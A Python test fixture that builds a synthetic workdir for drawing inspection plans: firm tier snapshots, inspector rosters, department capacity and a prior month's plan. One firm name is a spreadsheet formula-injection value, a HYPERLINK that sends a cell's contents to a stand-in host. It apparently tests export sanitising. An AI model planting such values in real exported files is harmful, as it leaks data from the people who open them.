"""A tiny workdir to draw double-random plans from.

A published tier snapshot for 2026-W49 (as of 2026-11-29): finance and other firms of every
class, one firm named like a formula. A lake with the inspector roster (a snapshot of
2026-11-28 and a later one that arrives after the December cut-off) and the departments'
capacity for December. A case store holding a November plan of the market supervisors and
department-source inspections. Everything the tests change, they change in their own copy.
"""

from __future__ import annotations

import datetime as dt
import shutil
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import polars as pl

from data_contracts.departments import load_departments
from pipelines import file_io, io, publish_io
from pipelines.cases import open_store
from pipelines.cases.inspections import Report, record_reports
from pipelines.cases.plans import record_plan
from pipelines.cases.tables import DEPARTMENT_SOURCE
from pipelines.settings import Settings
from pipelines.tiers import FOLDER, TIERS_FILE
from pipelines.timeline import PARK_TZ

WEEK = "2026-W49"
AS_OF = dt.date(2026, 11, 29)
MONTH = "2026-12"
FORMULA_NAME = '=HYPERLINK("http://x/?"&B2,"点击")'
MARKET = "market_supervision"
FINANCE = "financial_supervision"
PER_TIER = {"A": 300, "B": 400, "C": 60, "D": 12}
DEPARTMENTS = load_departments()


@dataclass(frozen=True)
class PlanWorld:
    settings: Settings
    firms: pl.DataFrame  # the snapshot's firms
    inspected: list[str]  # firms the market supervisors inspected in October
    inspected_long_ago: list[str]  # inspected in July: eligible again in December
    november: pl.DataFrame  # the market supervisors' November plan (uscc, inspectors)


def uscc(i: int) -> str:
    return f"91320594MA{i:07d}X"


def inspector(department: int, i: int) -> str:
    return f"3205942020{department:02d}{i:02d}"


def _snapshot(settings: Settings) -> pl.DataFrame:
    rng = np.random.default_rng(3)
    rows, number = [], 0
    for industry in ("finance", "other"):
        for tier, count in PER_TIER.items():
            for _ in range(count // (2 if industry == "finance" else 1)):
                rows.append(
                    {
                        "uscc": uscc(number),
                        "name": FORMULA_NAME if number == 5 else f"测试企业{number}有限公司",
                        "industry": industry,
                        "district": "湖西",
                        "tier": tier,
                        "basis": "model" if number % 3 else "credit_evaluation",
                        "probability": None if number % 3 == 0 else float(rng.random()),
                    }
                )
                number += 1
    firms = pl.DataFrame(rows).with_columns(
        model_tier=pl.when(pl.col("probability").is_not_null()).then(pl.col("tier")),
        credit_grade=pl.lit(None, dtype=pl.String),
        credit_year=pl.lit(None, dtype=pl.Date),
        basis_zh=pl.lit("模型评分"),
        basis_en=pl.lit("the model's score"),
    )
    folder = settings.publish / WEEK / FOLDER
    folder.mkdir(parents=True)
    publish_io.write_parquet(firms, folder / TIERS_FILE)
    file_io.write_json(
        folder / publish_io.MANIFEST,
        {"week": WEEK, "as_of": AS_OF.isoformat(), "files": publish_io.file_hashes(folder)},
    )
    return firms


def _lake(settings: Settings) -> None:
    roster = []
    for number, department in enumerate(DEPARTMENTS.departments.values()):
        for i in range(8):
            for day, arrived in (
                (dt.date(2026, 11, 28), dt.datetime(2026, 11, 28, 2)),
                (dt.date(2026, 12, 5), dt.datetime(2026, 12, 5, 2)),
            ):
                late = day.month == 12
                roster.append(
                    {
                        "inspector_id": inspector(number, i + (10 if late else 0)),
                        "inspector_name": f"王{'甲乙丙丁戊己庚辛'[i]}",
                        "department": department.name.zh,
                        "status": "休假" if i == 7 else "在岗",
                        "snapshot_date": day,
                        "arrived_at": arrived,
                    }
                )
    capacity = [
        {
            "department": department.name.zh,
            "period": dt.date(2026, 12, 1),
            "capacity": 400 if department.key == MARKET else 60,
            "declared_on": dt.date(2026, 11, 20),
            "arrived_at": dt.datetime(2026, 11, 20, 10),
        }
        for department in DEPARTMENTS.departments.values()
    ]
    for source, rows in (
        ("inspection_inspector_roster", roster),
        ("inspection_monthly_capacity", capacity),
    ):
        frame = pl.DataFrame(rows).with_columns(
            _delivery_id=pl.lit("2026-11-28"), _ingested_at=pl.lit(dt.datetime(2026, 12, 6, 2))
        )
        io.write_partition(settings.lake, source, "2026-11-28", frame)


def _store(settings: Settings, firms: pl.DataFrame) -> tuple[list[str], list[str], pl.DataFrame]:
    other = firms.filter(pl.col("industry") == "other")
    inspected = other.filter(pl.col("tier") == "D")["uscc"].head(3).to_list()
    long_ago = other.filter(pl.col("tier") == "D")["uscc"].slice(3, 2).to_list()
    finance_only = other.filter(pl.col("tier") == "D")["uscc"].slice(5, 1).to_list()
    reports = [
        Report(
            report_key=f"{source}/R{k}",
            channel=source,
            uscc=firm,
            industry="other",
            week=None,
            inspection_date=day,
            method="double_random",
            outcome="no_risk_found",
            note=None,
            origin="test",
            received_at=dt.datetime.combine(day + dt.timedelta(days=3), dt.time(9), PARK_TZ),
        )
        for k, (source, firm, day) in enumerate(
            [("inspection_random_check", f, dt.date(2026, 10, 15)) for f in inspected]
            + [("inspection_random_check", f, dt.date(2026, 7, 15)) for f in long_ago]
            + [("inspection_financial_onsite", f, dt.date(2026, 10, 15)) for f in finance_only]
        )
    ]
    store = open_store(settings)
    try:
        with store.write(DEPARTMENT_SOURCE, "tester", "lake/test") as change:
            record_reports(change, reports)
        november = (
            other.filter(pl.col("tier") == "C")
            .head(4)
            .with_columns(inspectors=pl.lit(f"{inspector(0, 0)},{inspector(0, 1)}"))
        )
        values = [
            {
                "month": "2026-11",
                "department": MARKET,
                "uscc": row["uscc"],
                "firm_name": row["name"],
                "industry": row["industry"],
                "tier": row["tier"],
                "basis": row["basis"],
                "probability": row["probability"],
                "selection": "random",
                "design": "random_sample",
                "inclusion": 0.02,
                "inspectors": row["inspectors"],
                "seed": "1",
                "snapshot_week": "2026-W44",
            }
            for row in november.iter_rows(named=True)
        ]
        record_plan(
            store,
            month="2026-11",
            department=MARKET,
            values=values,
            received_at=dt.datetime(2026, 11, 1, tzinfo=PARK_TZ),
            operator="tester",
            source="inspection/2026-11/market_supervision/plan.parquet",
            source_sha256="0" * 64,
        )
    finally:
        store.dispose()
    return inspected, long_ago, november.select("uscc", "inspectors")


def build_plan_world(root: Path) -> PlanWorld:
    settings = Settings(workdir=root, operator="planner-test", seed=20261121)
    firms = _snapshot(settings)
    _lake(settings)
    inspected, long_ago, november = _store(settings, firms)
    return PlanWorld(settings, firms, inspected, long_ago, november)


def copy_world(world: PlanWorld, root: Path) -> PlanWorld:
    shutil.copytree(world.settings.workdir, root, dirs_exist_ok=True)
    settings = Settings(workdir=root, operator="planner-test", seed=world.settings.seed)
    return PlanWorld(
        settings, world.firms, world.inspected, world.inspected_long_ago, world.november
    )
